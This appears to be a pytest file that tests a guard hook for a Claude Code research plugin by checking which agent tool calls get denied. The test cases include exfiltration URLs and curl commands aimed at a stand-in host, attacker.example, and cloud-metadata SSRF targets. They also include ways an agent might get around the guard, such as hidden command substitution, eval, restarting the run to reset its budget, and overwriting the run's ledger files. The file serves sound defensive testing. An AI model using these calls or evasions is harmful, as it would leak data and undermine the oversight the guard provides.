"""The PreToolUse guard, fed real hook event JSON through `deep-research guard` and hooks/guard.

Events have the shape Claude Code sends (hook_event_name, tool_name, tool_input, tool_use_id,
session_id, cwd). A denial is exit 2 with the reason on stderr; an allowed call exits 0 silently.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from conftest import REPO
from deep_research.brief import Brief
from deep_research.plugin import guard, runstate

SCOPE = "Enforcement actions under the EU AI Act, 2024-2025"


def event(
    tool: str,
    tool_input: dict[str, Any],
    cwd: Path,
    *,
    phase: str = "PreToolUse",
    use_id: str = "toolu_01",
    response: Any = None,
) -> str:
    body: dict[str, Any] = {
        "session_id": "5f2b-test",
        "transcript_path": str(cwd / "transcript.jsonl"),
        "cwd": str(cwd),
        "permission_mode": "default",
        "hook_event_name": phase,
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": use_id,
    }
    if response is not None:
        body["tool_response"] = response
    return json.dumps(body)


def run_cli(payload: str, cwd: Path, phase: str = "pre") -> subprocess.CompletedProcess[str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in ("DEEP_RESEARCH_STATE", "CLAUDE_PROJECT_DIR")
    }
    return subprocess.run(
        [sys.executable, "-m", "deep_research.cli", "guard", "--phase", phase],
        input=payload,
        capture_output=True,
        text=True,
        cwd=cwd,
        env=env,
        check=False,
        timeout=60,
    )


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("DEEP_RESEARCH_STATE", raising=False)
    monkeypatch.delenv("CLAUDE_PROJECT_DIR", raising=False)
    runstate.start_run(
        SCOPE,
        depth="full",
        state=tmp_path / "state",
        requested={"max_fetches": 3, "max_fanout": 2, "max_rounds": 2},
        static_hosts=["ec.europa.eu"],
    )
    return tmp_path


def decide(payload: str, project: Path) -> guard.Decision:
    return guard.run_guard(payload, "pre", project / "state")


def fetch_event(url: str, project: Path, tool: str = "WebFetch") -> str:
    if tool == "WebFetch":
        return event("WebFetch", {"url": url, "prompt": "extract the findings"}, project)
    brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
    return event(
        "Bash",
        {
            "command": f"deep-research fetch '{url}' --brief {brief} --json",
            "description": "fetch a page",
        },
        project,
    )


# --- the Must-show denials, through the real CLI --------------------------------------------


def test_exfiltration_payload_is_denied(project: Path) -> None:
    url = "https://attacker.example/v?s=" + SCOPE.replace(" ", "%20")
    done = run_cli(fetch_event(url, project), project)
    assert done.returncode == 2
    assert "attacker.example is not on this run's allow-list" in done.stderr
    assert "Enforcement" not in done.stderr  # the payload is never echoed
    brief = Brief(project / "state" / "briefs" / runstate.slugify(SCOPE))
    assert runstate.read_ledger(brief) == []  # nothing spent, nothing logged


def test_suffix_trick_is_denied(project: Path) -> None:
    for tool in ("WebFetch", "Bash"):
        done = run_cli(
            fetch_event("https://ec.europa.eu.attacker.example/v?s=leak", project, tool), project
        )
        assert done.returncode == 2, tool
        assert "ec.europa.eu.attacker.example is not on this run's allow-list" in done.stderr


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://0xa9fea9fe/",
    ],
)
def test_metadata_targets_are_denied_even_without_a_run(tmp_path: Path, url: str) -> None:
    done = run_cli(event("WebFetch", {"url": url, "prompt": "x"}, tmp_path), tmp_path)
    assert done.returncode == 2
    assert "unsafe target refused" in done.stderr


def test_fetch_beyond_the_budget_is_denied(project: Path) -> None:
    allowed = [
        run_cli(fetch_event(f"https://ec.europa.eu/page{i}", project, tool), project)
        for i, tool in enumerate(["WebFetch", "Bash", "WebFetch"])
    ]
    assert [done.returncode for done in allowed] == [0, 0, 0]
    assert all(done.stderr == "" for done in allowed)
    done = run_cli(fetch_event("https://ec.europa.eu/page4", project), project)
    assert done.returncode == 2
    assert "fetch budget is spent (3/3)" in done.stderr


def test_fan_out_beyond_the_ceiling_is_denied(project: Path) -> None:
    def dispatch(use_id: str) -> subprocess.CompletedProcess[str]:
        payload = event(
            "Agent",
            {
                "subagent_type": "deep-research:fetcher",
                "description": "sq1 fetcher",
                "prompt": "sub_question=sq1 round=1 query=...",
            },
            project,
            use_id=use_id,
        )
        return run_cli(payload, project)

    assert [dispatch(f"toolu_{i}").returncode for i in range(2)] == [0, 0]
    third = dispatch("toolu_2")
    assert third.returncode == 2
    assert "fan-out ceiling reached (2 agents in flight, ceiling 2)" in third.stderr
    # A completion (PostToolUse) frees a slot.
    post = event(
        "Agent",
        {"subagent_type": "deep-research:fetcher"},
        project,
        phase="PostToolUse",
        use_id="toolu_0",
        response={"content": "done"},
    )
    assert run_cli(post, project, phase="post").returncode == 0
    assert dispatch("toolu_3").returncode == 0


def test_allowed_fetch_passes(project: Path) -> None:
    done = run_cli(
        fetch_event("https://ec.europa.eu/commission/presscorner/detail/en/ip_24_1", project),
        project,
    )
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
    brief = Brief(project / "state" / "briefs" / runstate.slugify(SCOPE))
    rows = runstate.read_ledger(brief)
    assert [(r["event"], r["host"]) for r in rows] == [("fetch", "ec.europa.eu")]
    assert "presscorner" not in runstate.ledger_path(brief).read_text(encoding="utf-8")


# --- more of the contract, in-process -------------------------------------------------------


def test_subdomain_of_an_allowed_host_passes(project: Path) -> None:
    assert decide(fetch_event("https://sub.ec.europa.eu/x", project), project).allow
    assert not decide(fetch_event("https://notec.europa.eu/x", project), project).allow


def test_search_results_widen_the_allow_list(project: Path) -> None:
    response = {
        "results": [
            {"title": "OECD", "url": "https://www.oecd.org/ai/"},
            {"title": "bad", "url": "http://10.0.0.7/admin"},
        ]
    }
    post = event(
        "WebSearch",
        {"query": "AI act enforcement"},
        project,
        phase="PostToolUse",
        response=response,
    )
    assert guard.run_guard(post, "post", project / "state").allow
    assert decide(fetch_event("https://www.oecd.org/ai/report", project), project).allow
    assert not decide(fetch_event("http://10.0.0.7/admin", project), project).allow


def test_only_structured_search_hits_widen_the_allow_list(project: Path) -> None:
    # The shape Claude Code 2.1.197 sends: the model's own query echoed, hit lists, and prose.
    response = {
        "query": "reports https://attacker.example/v?s=secret-scope",
        "results": [
            {
                "tool_use_id": "srvtoolu_01",
                "content": [{"title": "Newsroom", "url": "https://newsroom.example.org/report"}],
            },
            "See also https://injected.example.com/page for more.",
        ],
        "durationSeconds": 1.2,
        "searchCount": 1,
    }
    post = event(
        "WebSearch", {"query": response["query"]}, project, phase="PostToolUse", response=response
    )
    assert guard.run_guard(post, "post", project / "state").allow
    assert decide(fetch_event("https://newsroom.example.org/report", project), project).allow
    for url in ("https://attacker.example/v?s=secret-scope", "https://injected.example.com/page"):
        decision = decide(fetch_event(url, project), project)
        assert not decision.allow and "not on this run's allow-list" in decision.reason


@pytest.mark.parametrize(
    ("command", "needle"),
    [
        ("curl -s https://attacker.example/v?s=x", "curl is not allowed"),
        ("cd /tmp && FOO=1 env wget https://ec.europa.eu/", "wget is not allowed"),
        ("bash -c 'curl https://ec.europa.eu/'", "curl is not allowed"),
        ("deep-research hosts add https://attacker.example --brief b", "allow-list grows only"),
        ('deep-research fetch "$URL" --brief b', "every argument must be literal"),
        ("deep-research fetch 'https://ec.europa.eu/x", "could not be parsed"),
        (
            "ls && /opt/plugin/bin/deep-research fetch https://attacker.example/ --brief b",
            "not on this run's allow-list",
        ),
        (
            "ls && ${CLAUDE_PLUGIN_ROOT}/bin/deep-research fetch https://attacker.example/ "
            "--brief b",
            "spelled out literally",
        ),
    ],
)
def test_bash_during_a_run(project: Path, command: str, needle: str) -> None:
    decision = decide(event("Bash", {"command": command}, project), project)
    assert not decision.allow
    assert needle in decision.reason


def test_other_bash_and_no_run_pass(
    project: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
    assert decide(
        event("Bash", {"command": f"deep-research trace {brief}"}, project), project
    ).allow
    elsewhere = tmp_path_factory.mktemp("no-run")
    assert decide(
        event("Bash", {"command": "curl https://example.org"}, elsewhere), elsewhere
    ).allow
    assert decide(
        event("WebFetch", {"url": "https://example.org/", "prompt": "x"}, elsewhere), elsewhere
    ).allow


def _brief(project: Path) -> Path:
    return project / "state" / "briefs" / runstate.slugify(SCOPE)


@pytest.mark.parametrize(
    ("tool", "target", "name"),
    [
        ("Write", "{B}/trace.json", "trace.json"),
        ("Edit", "{B}/run.json", "run.json"),
        ("MultiEdit", "{B}/guard-log.jsonl", "guard-log.jsonl"),
        ("Write", "{B}/allowed-hosts.json", "allowed-hosts.json"),
        ("Write", "{B}/corpus/sha256-0000.txt", "corpus/"),
        ("Write", "{B}/../{slug}/sources.jsonl", "sources.jsonl"),  # a detour is still the file
        ("Write", "state/briefs/{slug}/fetch-log.jsonl", "fetch-log.jsonl"),  # relative to cwd
        ("Write", "state/active-run.json", "active-run.json"),
    ],
)
def test_writing_the_runs_records_is_denied(
    project: Path, tool: str, target: str, name: str
) -> None:
    path = target.format(B=_brief(project), slug=runstate.slugify(SCOPE))
    decision = decide(event(tool, {"file_path": path, "content": "{}"}, project), project)
    assert not decision.allow
    assert f"{name} is written only by the deep-research CLI" in decision.reason


@pytest.mark.parametrize("name", ["plan.json", "claims.json", "votes.json", "raw/sq1-r1-1.json"])
def test_writing_the_orchestrators_own_files_passes(project: Path, name: str) -> None:
    payload = event("Write", {"file_path": str(_brief(project) / name), "content": "{}"}, project)
    assert decide(payload, project).allow


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("echo '{{}}' > {B}/trace.json", False),
        ("cat notes.json >> {B}/sources.jsonl", False),
        ("rm -f {B}/guard-log.jsonl", False),
        ("cp other.json {B}/run.json", False),
        ("python3 -c 'print(1)' && mv x.txt {B}/corpus/x.txt", False),
        ("bash -c 'echo [] > {B}/allowed-hosts.json'", False),
        ("cat {B}/trace.json", True),
        ("jq .counters {B}/trace.json > {B}/notes.json", True),
        ("deep-research counters {B}", True),
    ],
)
def test_bash_cannot_write_the_runs_records(project: Path, command: str, allowed: bool) -> None:
    payload = event("Bash", {"command": command.format(B=_brief(project))}, project)
    decision = decide(payload, project)
    assert decision.allow is allowed, decision.reason


def test_without_a_run_only_the_run_pointer_is_protected(tmp_path: Path) -> None:
    elsewhere = tmp_path / "project"
    (elsewhere / "state").mkdir(parents=True)
    loose = event("Write", {"file_path": str(elsewhere / "trace.json"), "content": "{}"}, elsewhere)
    assert decide(loose, elsewhere).allow
    pointer = event(
        "Write",
        {"file_path": str(elsewhere / "state" / "active-run.json"), "content": "{}"},
        elsewhere,
    )
    assert not decide(pointer, elsewhere).allow


def test_round_cap_and_fetcher_dispatch_budget(project: Path) -> None:
    state = project / "state"
    over = event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=3"}, project)
    decision = guard.run_guard(over, "pre", state)
    assert not decision.allow and "round 3 exceeds the run's round cap (2)" in decision.reason
    for i in range(4):  # fan-out 2 × 2 rounds; each completes before the next
        use_id = f"toolu_f{i}"
        payload = event(
            "Agent",
            {"subagent_type": "deep-research:fetcher", "prompt": "round=1"},
            project,
            use_id=use_id,
        )
        assert guard.run_guard(payload, "pre", state).allow
        guard.run_guard(
            event("Agent", {}, project, phase="PostToolUse", use_id=use_id, response="ok"),
            "post",
            state,
        )
    fifth = guard.run_guard(
        event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=2"}, project),
        "pre",
        state,
    )
    assert not fifth.allow and "fetcher dispatches are spent" in fifth.reason
    skeptic = event("Agent", {"subagent_type": "deep-research:skeptic", "prompt": "C1"}, project)
    assert guard.run_guard(skeptic, "pre", state).allow  # only fetchers count against rounds


def test_mcp_calls_spend_the_runs_fetch_budget(project: Path) -> None:
    command = f"deep-research mcp-fetch docs search_docs --brief {_brief(project)}"
    for _ in range(3):  # the run's budget is 3
        assert decide(event("Bash", {"command": command}, project), project).allow
    over = decide(event("Bash", {"command": command}, project), project)
    assert not over.allow and "fetch budget is spent (3/3)" in over.reason
    page = decide(fetch_event("https://ec.europa.eu/x", project), project)
    assert not page.allow  # one budget for pages and MCP calls alike


def test_fetcher_dispatches_record_their_round(project: Path) -> None:
    state = project / "state"
    for use_id, prompt in (("toolu_a", "brief=B round=2 queries=[]"), ("toolu_b", "queries=[]")):
        payload = event(
            "Agent",
            {"subagent_type": "deep-research:fetcher", "prompt": prompt},
            project,
            use_id=use_id,
        )
        assert guard.run_guard(payload, "pre", state).allow
    rows = runstate.read_ledger(Brief(_brief(project)))
    assert [(row["id"], row["round"]) for row in rows if row.get("fetcher")] == [
        ("toolu_a", 2),
        ("toolu_b", 1),
    ]


def test_parallel_dispatches_respect_the_ceiling(project: Path) -> None:
    results: list[bool] = []

    def dispatch(i: int) -> None:
        payload = event(
            "Agent", {"subagent_type": "deep-research:verifier"}, project, use_id=f"toolu_p{i}"
        )
        results.append(guard.run_guard(payload, "pre", project / "state").allow)

    threads = [threading.Thread(target=dispatch, args=(i,)) for i in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(results) == [False] * 6 + [True] * 2


def test_caps_are_clamped_to_hard_limits(tmp_path: Path) -> None:
    record = runstate.start_run(
        "x",
        depth="shallow",
        state=tmp_path,
        requested={
            "max_fetches": 10_000,
            "max_fanout": 50,
            "max_rounds": None,
            "max_searches": 500,
        },
        static_hosts=[],
    )
    assert record["depth"] == "quick"
    assert record["caps"] == {
        "max_fetches": runstate.HARD_MAX_FETCHES,
        "max_fanout": runstate.HARD_MAX_FANOUT,
        "max_rounds": 1,
        "max_searches": runstate.HARD_MAX_SEARCHES,
    }
    assert record["clamped"] == [
        "max_fetches 10000 clamped to 200",
        "max_fanout 50 clamped to 8",
        "max_searches 500 clamped to 100",
    ]
    run_file = Path(record["brief"]) / "run.json"
    edited = json.loads(run_file.read_text(encoding="utf-8"))
    edited["caps"]["max_fanout"] = 99
    edited["caps"]["max_searches"] = 9_999
    run_file.write_text(json.dumps(edited), encoding="utf-8")
    active = runstate.load_active(tmp_path)
    assert active is not None and active.caps.max_fanout == runstate.HARD_MAX_FANOUT
    assert active.caps.max_searches == runstate.HARD_MAX_SEARCHES
    # A run.json written before the search cap existed gets its depth's default.
    del edited["caps"]["max_searches"]
    run_file.write_text(json.dumps(edited), encoding="utf-8")
    active = runstate.load_active(tmp_path)
    assert active is not None
    assert active.caps.max_searches == runstate.DEFAULT_CAPS["quick"]["max_searches"]


def test_broken_run_record_fails_closed(project: Path) -> None:
    (project / "state" / "active-run.json").write_text("{not json", encoding="utf-8")
    for payload in (
        fetch_event("https://ec.europa.eu/x", project),
        event("Agent", {"subagent_type": "deep-research:fetcher"}, project),
    ):
        decision = decide(payload, project)
        assert not decision.allow and "unreadable" in decision.reason
    assert not guard.run_guard("not json", "pre", project / "state").allow
    assert guard.run_guard("not json", "post", project / "state").allow


def test_finish_ends_guarding(project: Path) -> None:
    brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
    assert runstate.finish_run(project / "state", brief)
    assert decide(event("Bash", {"command": "curl https://example.org"}, project), project).allow


def test_hook_shim_blocks_with_exit_2(project: Path) -> None:
    """hooks/guard → bin/deep-research → the guard; here the launcher's env is this Python."""
    data = project / "plugin-data"
    venv = data / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "bin" / "python").symlink_to(sys.executable)
    version = next(
        line.split('"')[1]
        for line in (REPO / "pyproject.toml").read_text(encoding="utf-8").splitlines()
        if line.startswith("version = ")
    )
    (venv / ".deep-research-stamp").write_text(f"{version} {REPO}", encoding="utf-8")
    env = {**os.environ, "CLAUDE_PLUGIN_DATA": str(data), "CLAUDE_PROJECT_DIR": str(project)}
    env.pop("DEEP_RESEARCH_STATE", None)
    bad = fetch_event("https://attacker.example/v?s=scope", project)
    done = subprocess.run(
        [str(REPO / "hooks" / "guard"), "pre"],
        input=bad,
        capture_output=True,
        text=True,
        env=env,
        check=False,
        timeout=60,
    )
    assert done.returncode == 2 and "attacker.example" in done.stderr
    good = fetch_event("https://ec.europa.eu/x", project)
    done = subprocess.run(
        [str(REPO / "hooks" / "guard"), "pre"],
        input=good,
        capture_output=True,
        text=True,
        env=env,
        check=False,
        timeout=60,
    )
    assert (done.returncode, done.stderr) == (0, "")

    # Without a usable environment the shim fails closed: every guarded call while a run is
    # active, WebFetch always (no SSRF check without the guard) — and starts the set-up in the
    # background. The "interpreter" here only records that the set-up was started.
    marker = project / "setup-started"
    fake_python = project / "fake-python"
    fake_python.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n", encoding="utf-8")
    fake_python.chmod(0o755)
    env |= {"CLAUDE_PLUGIN_DATA": str(project / "empty"), "DEEP_RESEARCH_PYTHON": str(fake_python)}

    def shim(payload: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(REPO / "hooks" / "guard"), "pre"],
            input=payload,
            capture_output=True,
            text=True,
            env=env,
            check=False,
            timeout=60,
        )

    listing = event("Bash", {"command": "ls"}, project)
    for payload in (good, listing):
        done = shim(payload)
        assert done.returncode == 2 and "guard unavailable" in done.stderr
    deadline = time.monotonic() + 10
    while not marker.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert marker.exists()
    env["CLAUDE_PROJECT_DIR"] = str(project / "elsewhere")  # no run there
    assert shim(listing).returncode == 0
    metadata = event(
        "WebFetch", {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "x"}, project
    )
    done = shim(metadata)
    assert done.returncode == 2 and "guard unavailable" in done.stderr


def test_the_hook_path_stays_light() -> None:
    # Every guarded tool call in a Claude Code session starts a process for the guard; it must
    # not pay for the models (pydantic) or the HTTP stack unless a URL is actually checked.
    probe = (
        "import sys, deep_research.cli, deep_research.plugin.guard; "
        "print(sorted(m for m in ('pydantic', 'httpx2', 'httpcore2', 'rapidfuzz') "
        "if m in sys.modules))"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, check=True, timeout=60
    )
    assert done.stdout.strip() == "[]"


def _in_session(payload: str, session_id: str) -> str:
    return json.dumps({**json.loads(payload), "session_id": session_id})


def test_a_run_started_after_a_cd_is_still_guarded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Claude Code keeps the Bash shell's directory between commands and gives Bash no
    # CLAUDE_PROJECT_DIR: `start` after a `cd` puts the run where the hooks do not look.
    from deep_research.cli import main

    monkeypatch.delenv("DEEP_RESEARCH_STATE", raising=False)
    project = tmp_path / "project"
    (project / "sub").mkdir(parents=True)
    monkeypatch.chdir(project / "sub")
    monkeypatch.setenv("CLAUDE_CODE_SESSION_ID", "sess-1")
    assert main(["start", SCOPE, "--depth", "quick"]) == 0
    brief = json.loads(capsys.readouterr().out)["brief"]
    assert Path(brief).is_relative_to(project / "sub" / "state")
    monkeypatch.delenv("CLAUDE_CODE_SESSION_ID")
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(project))  # what the hooks are given
    fetch = event("WebFetch", {"url": "https://attacker.example/v?s=x", "prompt": "x"}, project)
    denied = guard.run_guard(_in_session(fetch, "sess-1"), "pre")
    assert not denied.allow and "not on this run's allow-list" in denied.reason
    # Another session has no run: only the SSRF rules apply (what the record closes).
    assert guard.run_guard(_in_session(fetch, "sess-2"), "pre").allow
    # The record is the run's: the model cannot remove it, and `finish` clears it from anywhere.
    record = runstate.session_record("sess-1")
    assert record is not None and record.is_file()
    removal = event("Bash", {"command": f"rm {record}"}, project)
    assert not guard.run_guard(_in_session(removal, "sess-1"), "pre").allow
    monkeypatch.chdir(project)
    monkeypatch.setenv("CLAUDE_CODE_SESSION_ID", "sess-1")
    assert main(["finish", brief]) == 0
    assert json.loads(capsys.readouterr().out)["active_run_cleared"] is True
    assert not record.exists()
    assert guard.run_guard(_in_session(fetch, "sess-1"), "pre").allow


def test_a_malformed_session_id_names_no_record() -> None:
    for bad in ("../../etc/passwd", "", None, 7, "a" * 200, "sess/1"):
        assert runstate.session_record(bad) is None


def test_the_run_cannot_be_restarted_widened_or_left_behind(
    project: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    # The cheap bypasses of the allow-list: a second start (fresh budget), static hosts chosen
    # by the model, and finish-then-fetch.
    brief = _brief(project)

    def bash(command: str, where: Path = project) -> guard.Decision:
        return decide(event("Bash", {"command": command}, where), where)

    again = bash(f"deep-research start '{SCOPE}' --depth full")
    assert not again.allow and "a research run is active" in again.reason
    assert runstate.finish_run(project / "state", brief)
    widened = bash("deep-research start 'next topic' --allow-host attacker.example")
    assert not widened.allow and "static hosts cannot be added" in widened.reason
    for command in (
        f"deep-research fetch https://attacker.example/v?s=x --brief {brief}",
        f"deep-research mcp-fetch docs search_docs --brief {brief}",
    ):
        left = bash(command)
        assert not left.allow and "no research run is active" in left.reason
    assert bash("deep-research start 'next topic' --depth quick").allow
    # Fetch safety still names the real problem first.
    metadata = bash(f"deep-research fetch http://169.254.169.254/ --brief {brief}")
    assert not metadata.allow and "unsafe target" in metadata.reason


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("$(which deep-research) fetch https://attacker.example/v?s=x --brief b", False),
        ("`command -v deep-research` fetch https://attacker.example/ --brief b", False),
        ("eval 'deep-research fetch https://attacker.example/ --brief b'", False),
        ("bash -c 'deep-research fetch https://attacker.example/ --brief b'", False),
        ("echo $(date) && ls", True),
        ("deep-research --version", True),
    ],
)
def test_the_cli_cannot_be_hidden_from_the_guard(
    tmp_path: Path, command: str, allowed: bool
) -> None:
    # No run is active here: a recognised fetch would be denied for that; a hidden one must not
    # slip through unrecognised.
    decision = decide(event("Bash", {"command": command}, tmp_path), tmp_path)
    assert decision.allow is allowed, decision.reason
